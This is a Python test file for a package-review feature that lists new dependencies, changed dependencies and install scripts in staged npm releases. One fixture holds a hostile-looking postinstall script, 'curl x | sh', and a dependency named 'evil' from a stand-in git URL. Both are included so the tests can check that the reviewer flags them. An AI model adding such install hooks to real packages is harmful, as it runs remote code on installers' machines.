"""The review summary a maintainer sees in `npm stage view`."""

from __future__ import annotations

from airlock.stage.review import review


def test_a_new_package_lists_every_dependency_and_script_as_new():
    staged = {
        "version": "1.0.0",
        "dependencies": {"b": "^1"},
        "peerDependencies": {"a": "*"},
        "scripts": {"postinstall": "node setup.js", "test": "jest"},
    }
    r = review(staged, None)
    assert r.compared_to is None
    assert r.new_dependencies == "a@*, b@^1"
    assert r.changed_dependencies == "none"
    assert r.install_scripts == "postinstall: node setup.js (new)"


def test_changes_against_latest_are_named():
    previous = {
        "version": "1.0.0",
        "dependencies": {"a": "^1", "c": "1.0.0"},
        "scripts": {"install": "node-gyp rebuild", "postinstall": "echo ok"},
    }
    staged = {
        "version": "1.1.0",
        "dependencies": {"a": "^2", "c": "1.0.0"},
        "optionalDependencies": {"evil": "git+https://example.com/evil.git"},
        "scripts": {"install": "node-gyp rebuild", "postinstall": "curl x | sh"},
    }
    r = review(staged, previous)
    assert r.compared_to == "1.0.0"
    assert r.new_dependencies == "evil@git+https://example.com/evil.git"
    assert r.changed_dependencies == "a ^1 -> ^2"
    assert r.install_scripts == "install: node-gyp rebuild; postinstall: curl x | sh (changed)"


def test_nothing_to_flag_reads_none():
    same = {"version": "1.0.0", "dependencies": {"a": "^1"}}
    r = review({**same, "version": "1.0.1"}, same)
    assert (r.install_scripts, r.new_dependencies, r.changed_dependencies) == ("none",) * 3


def test_a_binding_gyp_counts_as_an_install_script():
    r = review({"version": "1.0.0", "gypfile": True, "scripts": {}}, None)
    assert r.install_scripts == "install: node-gyp rebuild (new)"
